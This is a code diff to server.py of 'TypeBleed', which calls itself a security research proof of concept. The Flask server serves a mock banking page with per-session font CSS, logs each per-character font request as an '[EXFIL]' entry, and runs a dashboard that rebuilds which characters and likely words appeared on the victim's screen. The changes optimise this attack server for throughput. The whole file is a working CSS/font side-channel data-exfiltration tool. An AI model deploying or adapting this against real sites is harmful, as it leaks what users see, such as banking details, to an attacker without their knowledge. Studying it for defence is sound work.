@@ -6,30 +6,42 @@ HTTP server that serves the TypeBleed demo, logs per-character font requests,
 and provides a real-time dashboard showing exfiltrated character data.
 
 Usage:
-    python server.py [--port 8080] [--host 0.0.0.0]
+    python server.py [--port 8080] [--host 0.0.0.0] [--verbose]
 
 Security Research PoC - Bountyy Oy
 """
 
+import bisect
+import functools
+import gzip
 import json
+import logging
+import logging.handlers
 import os
+import queue
 import re
+import secrets
+import string
 import sys
 import time
-import uuid
-from collections import defaultdict
+from collections import deque
 from datetime import datetime, timezone
+from itertools import islice
 from pathlib import Path
 
 from flask import (
     Flask,
     Response,
-    jsonify,
     render_template_string,
     request,
     send_from_directory,
 )
 
+try:
+    import orjson
+except ImportError:
+    orjson = None
+
 # ---------------------------------------------------------------------------
 # Paths
 # ---------------------------------------------------------------------------
@@ -42,26 +54,76 @@ DEMO_DIR = PROJECT_ROOT / "demo"
 # ---------------------------------------------------------------------------
 app = Flask(__name__, static_folder=None)
 
+# Per-character console output. Disabled unless --verbose; when enabled the
+# write to stdout happens on a listener thread, off the request path.
+exfil_log = logging.getLogger("typebleed.exfil")
+exfil_log.propagate = False
+
+
+def start_exfil_log():
+    """Print exfiltrated characters to stdout from a background thread."""
+    log_queue = queue.SimpleQueue()
+    exfil_log.addHandler(logging.handlers.QueueHandler(log_queue))
+    exfil_log.setLevel(logging.INFO)
+    listener = logging.handlers.QueueListener(
+        log_queue, logging.StreamHandler(sys.stdout),
+    )
+    listener.start()
+    return listener
+
+
 # ---------------------------------------------------------------------------
 # In-memory session store
 # ---------------------------------------------------------------------------
-# sessions[session_id] = {
-#     "codepoints": {codepoint_hex: timestamp, ...},
-#     "ip": str,
-#     "user_agent": str,
-#     "first_seen": float,
-#     "last_seen": float,
-# }
-sessions = defaultdict(lambda: {
-    "codepoints": {},
-    "ip": "",
-    "user_agent": "",
-    "first_seen": 0,
-    "last_seen": 0,
-})
-
-# Raw log entries: [(timestamp, ip, session_id, codepoint_hex), ...]
-access_log = []
+class Session:
+    """Everything captured for one session ID."""
+
+    __slots__ = (
+        "codepoints",   # {codepoint_hex: timestamp, ...}
+        "ip",
+        "user_agent",
+        "first_seen",
+        "last_seen",
+        "sorted_cp",    # codepoints kept in sorted order on insert
+        "char_mask",    # ALPHA_BITS of every character seen
+        "dirty",        # set when a new codepoint arrives
+        "view",         # cached character summary, rebuilt when dirty
+    )
+
+    def __init__(self):
+        self.codepoints = {}
+        self.ip = ""
+        self.user_agent = ""
+        self.first_seen = 0
+        self.last_seen = 0
+        self.sorted_cp = []
+        self.char_mask = 0
+        self.dirty = True
+        self.view = None
+
+
+# sessions[session_id] = Session
+sessions = {}
+
+
+def get_session(session_id):
+    """Return the Session for an ID, creating it on first use."""
+    sess = sessions.get(session_id)
+    if sess is None:
+        sess = sessions[session_id] = Session()
+    return sess
+
+
+# Raw log entries: ring buffer of the most recent ACCESS_LOG_CAP requests.
+# access_log_total counts every request ever logged and is the cursor the
+# dashboard passes back as ?since=, so it stays valid after old entries
+# have been evicted from the buffer.
+ACCESS_LOG_CAP = 10000
+access_log = deque(maxlen=ACCESS_LOG_CAP)
+access_log_total = 0
+
+# Every tracked font request, including repeats that are not logged
+font_request_total = 0
 
 # Character map for display
 CHAR_MAP = {}
@@ -72,32 +134,51 @@ for ch in "€£¥₿":
 
 
 def codepoint_to_char(hex_cp):
-    """Convert hex codepoint string to displayable character."""
-    return CHAR_MAP.get(hex_cp.upper(), f"U+{hex_cp}")
+    """Convert an upper-case hex codepoint string to a displayable character."""
+    return CHAR_MAP.get(hex_cp, f"U+{hex_cp}")
+
+
+# One bit per case-folded character that word inference can match on, so a
+# set of captured characters fits in a single int.
+ALPHA_BITS = {
+    ch: 1 << i
+    for i, ch in enumerate(string.ascii_lowercase + string.digits)
+}
+
+
+def chars_to_mask(chars):
+    """Fold an iterable of characters into an ALPHA_BITS mask."""
+    mask = 0
+    for c in chars:
+        mask |= ALPHA_BITS.get(c.lower(), 0)
+    return mask
 
 
 # ---------------------------------------------------------------------------
 # CSS generation (per-session unique font URLs)
 # ---------------------------------------------------------------------------
-def generate_session_css(session_id):
-    """Generate @font-face CSS with per-session font URLs."""
-    # Import character list from generator
-    sys.path.insert(0, str(PROJECT_ROOT / "fonts"))
-    try:
-        from generate import CHARACTERS
-    except ImportError:
-        # Fallback character set
-        CHARACTERS = {}
-        for cp in range(0x0061, 0x007B):
-            CHARACTERS[cp] = chr(cp)
-        for cp in range(0x0041, 0x005B):
-            CHARACTERS[cp] = chr(cp)
-        for cp in range(0x0030, 0x003A):
-            CHARACTERS[cp] = chr(cp)
-        CHARACTERS[0x0020] = "space"
-        for ch in ".!?,'\"-():;/@#$%&*+=€£¥₿<>{}[]|\\~^_":
-            CHARACTERS[ord(ch)] = ch
-
+# Import character list from generator
+_GENERATOR_DIR = str(PROJECT_ROOT / "fonts")
+if _GENERATOR_DIR not in sys.path:
+    sys.path.insert(0, _GENERATOR_DIR)
+try:
+    from generate import CHARACTERS
+except ImportError:
+    # Fallback character set
+    CHARACTERS = {}
+    for cp in range(0x0061, 0x007B):
+        CHARACTERS[cp] = chr(cp)
+    for cp in range(0x0041, 0x005B):
+        CHARACTERS[cp] = chr(cp)
+    for cp in range(0x0030, 0x003A):
+        CHARACTERS[cp] = chr(cp)
+    CHARACTERS[0x0020] = "space"
+    for ch in ".!?,'\"-():;/@#$%&*+=€£¥₿<>{}[]|\\~^_":
+        CHARACTERS[ord(ch)] = ch
+
+
+def _render_session_css(session_id):
+    """Render @font-face CSS for one session ID."""
     rules = []
     rules.append("/* TypeBleed — per-session exfiltration CSS */")
     rules.append(f"/* Session: {session_id} */\n")
@@ -119,34 +200,70 @@ def generate_session_css(session_id):
     return "\n".join(rules)
 
 
+# The CSS only varies by session ID, so render it once with a placeholder
+# and split on it; each request is then a single join.
+_CSS_SID_PLACEHOLDER = "__SID__"
+_CSS_PARTS = _render_session_css(_CSS_SID_PLACEHOLDER).split(
+    _CSS_SID_PLACEHOLDER
+)
+
+
+def generate_session_css(session_id):
+    """Generate @font-face CSS with per-session font URLs."""
+    return session_id.join(_CSS_PARTS)
+
+
+@functools.lru_cache(maxsize=1024)
+def _compiled_css_gz(session_id):
+    """Gzip the session CSS, cached for repeat fetches by the same session."""
+    return gzip.compress(generate_session_css(session_id).encode())
+
+
 # ---------------------------------------------------------------------------
 # Routes — Demo
 # ---------------------------------------------------------------------------
+_INDEX_PATH = DEMO_DIR / "index.html"
+_INDEX_HTML = _INDEX_PATH.read_text() if _INDEX_PATH.exists() else None
+
+# Template split once into [literal, placeholder, literal, ...] so a request
+# is a single join instead of one full-page replace per placeholder.
+_INDEX_PARTS = (
+    re.split(r"\{\{ (session_id|session_id_short) \}\}", _INDEX_HTML)
+    if _INDEX_HTML is not None else None
+)
+
+
 @app.route("/")
 def index():
     """Serve the banking demo page with a unique session ID."""
-    session_id = uuid.uuid4().hex[:16]
+    session_id = secrets.token_hex(8)
 
-    html_path = DEMO_DIR / "index.html"
-    if not html_path.exists():
+    if _INDEX_PARTS is None:
         return "Demo page not found. Run fonts/generate.py first.", 404
 
-    html = html_path.read_text()
     # Template substitution
-    html = html.replace("{{ session_id }}", session_id)
-    html = html.replace("{{ session_id_short }}", session_id[:8])
+    values = {"session_id": session_id, "session_id_short": session_id[:8]}
+    parts = list(_INDEX_PARTS)
+    parts[1::2] = [values[name] for name in _INDEX_PARTS[1::2]]
 
-    return html
+    return "".join(parts)
 
 
 @app.route("/css/exfil/<session_id>")
 def exfil_css(session_id):
     """Serve dynamically generated per-session exfiltration CSS."""
-    css = generate_session_css(session_id)
-    return Response(css, mimetype="text/css", headers={
+    headers = {
         "Cache-Control": "no-store",
+        "ETag": f'"{session_id}"',
+        "Vary": "Accept-Encoding",
         "X-TypeBleed-Session": session_id,
-    })
+    }
+    if request.accept_encodings["gzip"]:
+        headers["Content-Encoding"] = "gzip"
+        css = _compiled_css_gz(session_id)
+    else:
+        css = generate_session_css(session_id)
+    return Response(css, mimetype="text/css", headers=headers)
 
 
 @app.route("/static/<path:filename>")
@@ -158,6 +275,23 @@ def static_files(filename):
 # ---------------------------------------------------------------------------
 # Routes — Font serving with logging (the exfiltration point)
 # ---------------------------------------------------------------------------
+# Per-character fonts are a few hundred bytes each, so keep them all in
+# memory rather than hitting the filesystem on every tracked request.
+_FONT_CACHE = {
+    p.stem.upper(): p.read_bytes() for p in FONTS_DIR.glob("*.woff2")
+}
+
+
+def load_font(codepoint):
+    """Return font bytes for a codepoint, reading files added since startup."""
+    data = _FONT_CACHE.get(codepoint)
+    if data is None:
+        font_file = FONTS_DIR / f"{codepoint}.woff2"
+        if font_file.is_file():
+            data = _FONT_CACHE[codepoint] = font_file.read_bytes()
+    return data
+
+
 @app.route("/fonts/t/<session_id>/<codepoint>.woff2")
 def serve_tracked_font(session_id, codepoint):
     """
@@ -165,50 +299,60 @@ def serve_tracked_font(session_id, codepoint):
     This is the core of the exfiltration — each request reveals
     one character that was rendered on the client's screen.
     """
+    global access_log_total, font_request_total
+
     codepoint = codepoint.upper()
     now = time.time()
-
-    # Log the request
-    entry = {
-        "timestamp": now,
-        "datetime": datetime.now(timezone.utc).isoformat(),
-        "ip": request.remote_addr,
-        "session_id": session_id,
-        "codepoint": codepoint,
-        "character": codepoint_to_char(codepoint),
-        "user_agent": request.headers.get("User-Agent", ""),
-    }
-    access_log.append(entry)
+    font_request_total += 1
 
     # Update session data
-    sess = sessions[session_id]
-    sess["codepoints"][codepoint] = now
-    sess["ip"] = request.remote_addr
-    sess["user_agent"] = request.headers.get("User-Agent", "")
-    if sess["first_seen"] == 0:
-        sess["first_seen"] = now
-    sess["last_seen"] = now
-
-    # Print to server console
-    char_display = codepoint_to_char(codepoint)
-    print(
-        f"[EXFIL] session={session_id[:8]}... "
-        f"char=U+{codepoint} '{char_display}' "
-        f"ip={request.remote_addr}"
-    )
+    sess = get_session(session_id)
+    seen = codepoint in sess.codepoints
+    sess.codepoints[codepoint] = now
+    if sess.first_seen == 0:
+        sess.first_seen = now
+        sess.ip = request.remote_addr
+        sess.user_agent = request.headers.get("User-Agent", "")
+    sess.last_seen = now
+
+    # Repeat fetches of a character reveal nothing new; only the first
+    # request per session is logged.
+    if not seen:
+        char = codepoint_to_char(codepoint)
+        entry = {
+            "timestamp": now,
+            "ip": request.remote_addr,
+            "session_id": session_id,
+            "codepoint": codepoint,
+            "character": char,
+        }
+        access_log.append(entry)
+        access_log_total += 1
 
-    # Serve the actual font file
-    font_file = FONTS_DIR / f"{codepoint}.woff2"
-    if font_file.exists():
-        return send_from_directory(
-            str(FONTS_DIR), f"{codepoint}.woff2",
-            mimetype="font/woff2",
-            max_age=0,
+        bisect.insort(sess.sorted_cp, codepoint)
+        sess.char_mask |= ALPHA_BITS.get(char.lower(), 0)
+        sess.dirty = True
+
+        # Print to server console
+        exfil_log.info(
+            "[EXFIL] session=%s... char=U+%s '%s' ip=%s",
+            session_id[:8], codepoint, char, request.remote_addr,
         )
-    else:
+
+    # Serve the actual font file
+    data = load_font(codepoint)
+    if data is None:
         # Return a minimal valid response so the browser doesn't retry
         return Response(b"", status=204)
 
+    # The URL is unique per session and the first request has already been
+    # logged, so let the browser keep the font instead of asking again.
+    resp = Response(data, mimetype="font/woff2", headers={
+        "Cache-Control": "public, max-age=31536000, immutable",
+        "ETag": f'"{codepoint}"',
+    })
+    return resp.make_conditional(request)
+
 
 @app.route("/fonts/char/<path:filename>")
 def serve_static_font(filename):
@@ -359,8 +503,10 @@ DASHBOARD_HTML = r"""
 
     async function poll() {
         try {
-            const resp = await fetch('/api/sessions');
-            const data = await resp.json();
+            const resp = await fetch('/api/state?since=' + lastLogCount);
+            const state = await resp.json();
+            const data = state.sessions;
+            const logData = state.log;
 
             // Update stats
             document.getElementById('stat-sessions').textContent = data.session_count;
@@ -414,8 +560,6 @@ DASHBOARD_HTML = r"""
             }
 
             // Update log
-            const logResp = await fetch('/api/log?since=' + lastLogCount);
-            const logData = await logResp.json();
             if (logData.entries.length > 0) {
                 const logContainer = document.getElementById('log-container');
                 if (lastLogCount === 0) {
@@ -507,79 +651,145 @@ COMMON_WORDS = [
 ]
 
 
-def infer_words(char_set):
-    """Given a set of characters, find common words that could be spelled."""
-    char_set_lower = {c.lower() for c in char_set}
+# (word, mask) pairs, longest word first; a word can be spelled iff its mask
+# is a subset of the session's char_mask.
+WORD_MASKS = [
+    (word, chars_to_mask(word))
+    for word in sorted(COMMON_WORDS, key=len, reverse=True)
+    if all(c in ALPHA_BITS for c in word)
+]
+
+
+@functools.lru_cache(maxsize=1024)
+def infer_words(char_mask):
+    """Given an ALPHA_BITS mask, find common words that could be spelled."""
+    # WORD_MASKS is ordered by length, so the first 15 matches are the top
+    # 15 by length (longer = more interesting)
     possible = []
-    for word in COMMON_WORDS:
-        if all(c in char_set_lower for c in word):
+    for word, word_mask in WORD_MASKS:
+        if word_mask & ~char_mask == 0:
             possible.append(word)
-    # Return top 15 by length (longer = more interesting)
-    possible.sort(key=len, reverse=True)
-    return possible[:15]
+            if len(possible) == 15:
+                break
+    return tuple(possible)
 
 
-@app.route("/api/sessions")
-def api_sessions():
-    """API endpoint returning current session data."""
+# Shows spaces as a visible symbol in the sorted character summary
+_SPACE_TABLE = str.maketrans({" ": "␣"})
+
+
+def session_view(data):
+    """Return the character summary for a session, rebuilding it if dirty."""
+    if data.dirty:
+        # Clear the flag before reading, so a codepoint that arrives during
+        # the rebuild marks the session dirty again instead of being lost.
+        data.dirty = False
+        codepoints = list(data.sorted_cp)
+        char_mask = data.char_mask
+        chars = [codepoint_to_char(cp_hex) for cp_hex in codepoints]
+
+        sorted_chars = "".join(sorted(chars)).translate(_SPACE_TABLE)
+
+        data.view = {
+            "char_count": len(chars),
+            "characters": chars,
+            "codepoints": codepoints,
+            "sorted_chars": sorted_chars,
+            "inferred_words": infer_words(char_mask),
+        }
+    return data.view
+
+
+def sessions_payload():
+    """Build the session summary returned by /api/sessions."""
     result = []
     unique_ips = set()
     total_chars = 0
 
     for sid, data in sessions.items():
-        if not data["codepoints"]:
+        if not data.codepoints:
             continue
 
-        unique_ips.add(data["ip"])
-        chars = []
-        codepoints = []
-        for cp_hex in sorted(data["codepoints"].keys()):
-            ch = codepoint_to_char(cp_hex)
-            chars.append(ch)
-            codepoints.append(cp_hex)
-
-        total_chars += len(chars)
-        sorted_chars = "".join(
-            c if c != " " else "␣" for c in sorted(chars)
-        )
-
-        char_set = set(chars)
-        inferred = infer_words(char_set)
+        unique_ips.add(data.ip)
+        view = session_view(data)
+        total_chars += view["char_count"]
 
         result.append({
             "session_id": sid,
-            "ip": data["ip"],
-            "user_agent": data["user_agent"][:80],
-            "first_seen": data["first_seen"],
-            "last_seen": data["last_seen"],
-            "char_count": len(chars),
-            "characters": chars,
-            "codepoints": codepoints,
-            "sorted_chars": sorted_chars,
-            "inferred_words": inferred,
+            "ip": data.ip,
+            "user_agent": data.user_agent[:80],
+            "first_seen": data.first_seen,
+            "last_seen": data.last_seen,
+            **view,
         })
 
     # Sort by most recent
     result.sort(key=lambda x: x["last_seen"], reverse=True)
 
-    return jsonify({
+    return {
         "sessions": result,
         "session_count": len(result),
         "total_chars": total_chars,
-        "total_requests": len(access_log),
+        "total_requests": font_request_total,
         "unique_ips": len(unique_ips),
-    })
+    }
+
+
+def log_payload(since):
+    """Build the access log slice returned by /api/log."""
+    total = access_log_total
+    base = total - len(access_log)  # cursor of the oldest buffered entry
+
+    # Last 100 entries after the cursor, walked from the tail so the cost
+    # depends on the number returned rather than the size of the buffer.
+    count = min(total - max(since, base), 100)
+    entries = list(islice(reversed(access_log), max(count, 0)))[::-1]
+
+    # ISO timestamps and the session's user agent are only filled in for
+    # the entries actually returned
+    return {
+        "entries": [
+            {
+                **e,
+                "datetime": datetime.fromtimestamp(
+                    e["timestamp"], timezone.utc).isoformat(),
+                "user_agent": sessions[e["session_id"]].user_agent,
+            }
+            for e in entries
+        ],
+        "total": total,
+    }
+
+
+def json_response(payload):
+    """Serialize an API payload, using orjson when it is installed."""
+    if orjson is not None:
+        body = orjson.dumps(payload)
+    else:
+        body = json.dumps(payload, separators=(",", ":"))
+    return Response(body, mimetype="application/json")
+
+
+@app.route("/api/sessions")
+def api_sessions():
+    """API endpoint returning current session data."""
+    return json_response(sessions_payload())
 
 
 @app.route("/api/log")
 def api_log():
     """API endpoint returning access log entries."""
     since = int(request.args.get("since", 0))
-    entries = access_log[since:]
+    return json_response(log_payload(since))
 
-    return jsonify({
-        "entries": entries[-100:],  # Last 100 entries
-        "total": len(access_log),
+
+@app.route("/api/state")
+def api_state():
+    """API endpoint returning sessions and new log entries in one response."""
+    since = int(request.args.get("since", 0))
+    return json_response({
+        "sessions": sessions_payload(),
+        "log": log_payload(since),
     })
 
 
@@ -596,6 +806,8 @@ def main():
                         help="Host to bind to (default: 0.0.0.0)")
     parser.add_argument("--debug", action="store_true",
                         help="Enable Flask debug mode")
+    parser.add_argument("--verbose", "-v", action="store_true",
+                        help="Print each exfiltrated character to the console")
     args = parser.parse_args()
 
     # Check if font files exist
@@ -628,7 +840,31 @@ def main():
 [*] Listening on {args.host}:{args.port}...
 """)
 
-    app.run(host=args.host, port=args.port, debug=args.debug)
+    if args.verbose:
+        start_exfil_log()
+
+    if args.debug:
+        app.run(host=args.host, port=args.port, debug=True)
+        return
+
+    # gevent serves the burst of parallel font requests a page load
+    # triggers from one process without a thread per connection.
+    try:
+        from gevent import monkey
+        monkey.patch_all()
+        from gevent.pywsgi import WSGIServer
+    except ImportError:
+        print("[!] gevent not installed, falling back to the Flask "
+              "development server. Install with: pip install gevent\n")
+        app.run(host=args.host, port=args.port)
+        return
+
+    # pywsgi's default access log writes a line per request to stderr on
+    # the request path; keep it for --verbose only.
+    WSGIServer(
+        (args.host, args.port), app,
+        log="default" if args.verbose else None,
+    ).serve_forever()
 
 
 if __name__ == "__main__":